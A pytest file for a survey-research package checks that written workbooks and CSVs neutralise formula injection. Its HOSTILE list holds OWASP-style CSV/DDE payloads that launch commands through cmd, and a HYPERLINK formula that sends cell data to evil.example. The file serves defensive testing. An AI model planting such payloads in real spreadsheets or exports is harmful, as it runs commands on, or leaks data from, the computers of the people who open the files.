"""No live formulas from user text: every workbook cell and CSV cell the package writes."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from research.cli import app
from research.safe_cells import (
    FORMULA_START,
    _fast_numeric_csv,
    csv_text,
    neutralise,
    unneutralise,
)
from research.segments import simulate_segments

runner = CliRunner()

#: Payloads from OWASP's CSV-injection page and the DDE attacks it cites.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def formula_cells(path: Path) -> list[tuple[str, str, str]]:
    book = openpyxl.load_workbook(path)
    return [
        (ws.title, cell.coordinate, str(cell.value))
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_csv_safe(path: Path) -> None:
    bad = [c for c in csv_cells(path) if c.startswith(FORMULA_START) and not _number(c)]
    assert bad == [], f"{path.name}: {bad[:3]}"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_neutralise_round_trip():
    for text in HOSTILE:
        safe = neutralise(text)
        assert safe.startswith("'") and unneutralise(safe) == text
    assert neutralise("plain") == "plain" and neutralise(-3.5) == -3.5
    assert unneutralise("'quoted") == "'quoted"  # only our own marker is removed
    frame = pd.DataFrame({"=a": ["=1+1", "ok"], "n": [-1.5, 2.0]}, index=["@x", "y"])
    text = csv_text(frame, raw=False)
    assert "'=1+1" in text and "'=a" in text and "'@x" in text and "-1.5" in text
    assert csv_text(frame, raw=True).count("'") == 0


def test_report_workbook_keeps_hostile_text_as_text(demo_run, tmp_path):
    from research.reports import write_workbook

    content = demo_run.content
    personas = [
        replace(p, name=HOSTILE[i % len(HOSTILE)] + f" {i}") for i, p in enumerate(content.personas)
    ]
    loadings = content.loadings.copy()
    loadings["text"] = HOSTILE[0]
    loadings.index = [f"=item{i}" for i in range(len(loadings))]
    quotes = content.quotes.copy()
    quotes["quote"] = HOSTILE[1]
    question_text = {k: HOSTILE[2] for k in content.question_text}
    summary = content.summary.copy()
    summary["value"] = HOSTILE[3]
    hostile = replace(
        content,
        title=HOSTILE[4],
        personas=personas,
        loadings=loadings,
        quotes=quotes,
        question_text=question_text,
        summary=summary,
    )
    path = write_workbook(hostile, tmp_path / "personas.xlsx")
    live = formula_cells(path)
    tool = content.typing_tool
    n_tool = len(tool.questions) + len(tool.coefficients.index) + 2
    assert len(live) == n_tool
    assert {sheet for sheet, _, _ in live} == {"Typing tool"}
    assert not any(word in text for _, _, text in live for word in ("cmd", "HYPERLINK", "SUM(1"))
    book = openpyxl.load_workbook(path)
    shown = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
    assert HOSTILE[0] in shown and HOSTILE[1] in shown  # kept, visibly, as text


def test_segment_command_outputs_are_inert(tmp_path):
    sim = simulate_segments(300, n_items=6, n_classes=2, random_state=3)
    frame = sim.data.copy()
    frame.columns = [f"=cmd|' /C calc'!A{i}" if i % 2 else f"q{i}" for i in range(frame.shape[1])]
    frame.index = [f"@r{i}" for i in range(len(frame))]
    frame.index.name = "respondent_id"
    data = tmp_path / "answers.csv"
    frame.to_csv(data)
    out = tmp_path / "seg"
    result = runner.invoke(
        app,
        [
            "segment", str(data), "--classes", "2", "--starts", "2", "--seed", "1",
            "--out", str(out), "--stability", "0", "--questions", "3", "--no-progress",
            "--created", "2026-01-01T00:00:00",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    for path in out.glob("*.csv"):
        assert_csv_safe(path)
    live = formula_cells(out / "typing_tool.xlsx")
    assert live and all("cmd" not in text for _, _, text in live)
    first = (out / "typing_tool.xlsx").read_bytes()
    again = tmp_path / "again"
    runner.invoke(
        app,
        [
            "segment", str(data), "--classes", "2", "--starts", "2", "--seed", "1",
            "--out", str(again), "--stability", "0", "--questions", "3", "--no-progress",
            "--created", "2026-01-01T00:00:00",
        ],
    )  # fmt: skip
    assert (again / "typing_tool.xlsx").read_bytes() == first


def test_questionnaire_workbooks_are_inert(tmp_path):
    import yaml

    example = Path(__file__).resolve().parents[1] / "questionnaires/examples/thrift-shoppers.yaml"
    spec = yaml.safe_load(example.read_text(encoding="utf-8"))
    spec["title"] = HOSTILE[1]
    for n, construct in enumerate(spec["constructs"]):
        construct["label"] = f"{HOSTILE[0]} {n}"
    spec["scales"]["purchase_frequency"] = [f"{HOSTILE[n % 5]} {n}" for n in range(5)]
    for block in spec["blocks"]:
        block["title"] = HOSTILE[4]
        for item in block["items"]:
            item["text"] = HOSTILE[2]
            if "choices" in item:
                item["choices"] = [f"{HOSTILE[3]} {n}" for n in range(len(item["choices"]))]
    q = tmp_path / "q.yaml"
    q.write_text(yaml.safe_dump(spec, sort_keys=False), encoding="utf-8")
    out = tmp_path / "built"
    result = runner.invoke(app, ["questionnaire", "build", str(q), "--out", str(out)])
    assert result.exit_code == 0, result.output
    books = sorted(out.glob("*.xlsx"))
    assert len(books) >= 2  # XLSForm and codebook
    for book in books:
        assert formula_cells(book) == [], book.name
    texts = {
        c.value
        for book in books
        for ws in openpyxl.load_workbook(book).worksheets
        for row in ws.iter_rows()
        for c in row
    }
    assert HOSTILE[2] in texts  # the wording is kept, as text


def test_import_csvs_are_inert_and_reimport_unchanged(tmp_path):
    rows = [["ResponseId", "Q1", "Q2"]]
    texts = HOSTILE[:5] + ["plain answer"]
    for i, text in enumerate(texts):
        rows.append([f"R_{i}", str(1 + i % 5), text])
    export = tmp_path / "export.csv"
    with open(export, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    q = tmp_path / "q.yaml"
    q.write_text(
        "id: t\ntitle: T\nblocks:\n  - id: b\n    items:\n"
        "      - {id: Q1, type: numeric, text: How many}\n"
        "      - {id: Q2, type: text, text: Why}\n"
    )
    out = tmp_path / "imported"
    result = runner.invoke(
        app, ["import", str(export), "--questionnaire", str(q), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    written = sorted(out.glob("*.csv"))
    assert written
    for path in written:
        assert_csv_safe(path)
    text_csv = out / "text.csv"
    assert text_csv.exists()
    back = pd.read_csv(text_csv, dtype=str, keep_default_na=False)
    assert sorted(unneutralise(v) for v in back["Q2"]) == sorted(texts)
    raw = tmp_path / "raw"
    result = runner.invoke(
        app, ["import", str(export), "-q", str(q), "--out", str(raw), "--raw-csv"]
    )
    assert result.exit_code == 0, result.output
    assert sorted(pd.read_csv(raw / "text.csv", dtype=str)["Q2"]) == sorted(texts)


def test_own_importer_removes_the_apostrophe(tmp_path):
    from research.ingest import import_responses

    path = tmp_path / "responses.csv"
    frame = pd.DataFrame(
        {"ResponseId": ["a", "b"], "Q1": ["=1+1", "fine"], "Q2": [1, 2]}
    ).set_index("ResponseId")
    path.write_text(csv_text(frame, raw=False))
    assert "'=1+1" in path.read_text()
    survey = import_responses(path)
    labels = {c.label for item in survey.questionnaire.items for c in item.choices or []}
    assert "=1+1" in labels and "'=1+1" not in labels


def test_csv_text_leaves_numbers_alone():
    frame = pd.DataFrame({"score": [-0.53, 1.2], "label": ["-0.53", "x"]})
    rows = list(csv.reader(io.StringIO(csv_text(frame, index=False, raw=False))))
    assert rows[1] == ["-0.53", "'-0.53"] and rows[2] == ["1.2", "x"]


@pytest.mark.parametrize("value", ["1", "true", "yes"])
def test_environment_opt_out(monkeypatch, value):
    monkeypatch.setenv("RESEARCH_RAW_CSV", value)
    assert "'" not in csv_text(pd.DataFrame({"a": ["=1"]}), index=False)


def _awkward_numbers(rng: np.random.Generator, n: int) -> np.ndarray:
    """Floats of every magnitude, plus the values whose text is special."""
    values = rng.normal(size=n) * 10.0 ** rng.integers(-12, 20, n)
    special = [0.0, -0.0, 1.0, -3.0, 1e-4, 9.999999999999999e-05, 1e10, 9999999999.999998,
               1e15, 1e16, 123456789012.5, 0.1, 1 / 3, np.nan, np.inf, -np.inf, 5e-324, 2.0**53]  # fmt: skip
    values[: len(special)] = special
    return values


@pytest.mark.parametrize("seed", range(4))
def test_numeric_frames_are_written_as_pandas_writes_them(seed):
    rng = np.random.default_rng(seed)
    n = 3000
    frame = pd.DataFrame(
        {
            "F1": _awkward_numbers(rng, n),
            "F2": rng.normal(size=n),
            "count": rng.integers(-(10**12), 10**12, n),
            "=formula": np.round(rng.normal(size=n), int(rng.integers(0, 6))),
            'with "quote", comma': rng.uniform(-1, 1, n),
        },
        index=pd.RangeIndex(1, n + 1, name="respondent"),
    )
    shuffled = frame.sample(frac=1.0, random_state=seed)
    ids = frame.set_axis([f"R{i:05d}" for i in range(n)]).rename_axis("id")
    for data in (frame, shuffled, ids, frame.rename_axis(None), frame[["F2"]]):
        assert _fast_numeric_csv(data, True, True) is not None  # the fast writer is tested
        for index in (True, False):
            for raw in (True, False):
                expected = (data if raw else _neutralised_reference(data)).to_csv(
                    index=index, lineterminator="\n"
                )
                assert csv_text(data, index=index, raw=raw) == expected
                headless = csv_text(data, index=index, raw=raw, header=False)
                assert headless == expected.split("\n", 1)[1]


def _neutralised_reference(frame: pd.DataFrame) -> pd.DataFrame:
    out = frame.copy()
    out.columns = [neutralise(c) for c in out.columns]
    return out


@pytest.mark.parametrize("seed", range(3))
def test_every_magnitude_and_posteriors_are_written_as_pandas_writes_them(seed):
    # Arrow and repr differ by magnitude (positional vs exponent, "e-7" vs "e-07", "1" vs
    # "1.0"); posteriors fill the 1e-9..1e-4 window that the writer rewrites in Arrow.
    rng = np.random.default_rng(seed)
    n = 4000
    spread = rng.normal(size=n) * 10.0 ** rng.uniform(-322, 306, n)
    window = rng.normal(size=n) * 10.0 ** rng.uniform(-10, -3, n)
    window[:8] = [1e-9, -1e-9, 9.99e-10, 1e-6, 9.9e-7, 1e-5, -1.5e-6, 9.999999999999999e-05]
    post = rng.dirichlet(np.full(5, 0.05), n)
    frame = pd.DataFrame(
        {"spread": spread, "window": window, "whole": np.trunc(spread * 1e-300),
         "p1": post[:, 0], "p2": post[:, 1], "p3": np.round(post[:, 2], 12)}
    )  # fmt: skip
    assert _fast_numeric_csv(frame, True, True) is not None
    assert csv_text(frame, raw=True) == frame.to_csv(lineterminator="\n")


def test_frames_the_fast_writer_declines_still_match_pandas():
    frame = pd.DataFrame({"a": [1.5, np.nan], "b": [True, False]})  # a bool column
    ids = pd.DataFrame({"a": [1.5, 2.5]}, index=pd.Index(["x,1", 'y"2'], name="id"))  # quoted
    lone = pd.DataFrame({"a": [np.nan, 1.0]})  # one empty field alone on a line is quoted
    empty = pd.DataFrame({"a": pd.Series([], dtype=float)})
    for data, index in ((frame, True), (ids, True), (lone, False), (empty, True)):
        assert _fast_numeric_csv(data, index, True) is None
        assert csv_text(data, index=index, raw=True) == data.to_csv(
            index=index, lineterminator="\n"
        )


def test_fast_writer_stands_down_for_an_arrow_that_formats_otherwise(monkeypatch):
    from research import safe_cells

    assert safe_cells._arrow_writes_like_repr()  # the installed Arrow: the fast writer is used
    frame = pd.DataFrame({"a": [0.25, 1.5e-5], "b": [3.0, np.nan]})
    monkeypatch.setattr(safe_cells, "_arrow_writes_like_repr", lambda: False)
    assert _fast_numeric_csv(frame, True, True) is None
    assert csv_text(frame, raw=True) == frame.to_csv(lineterminator="\n")
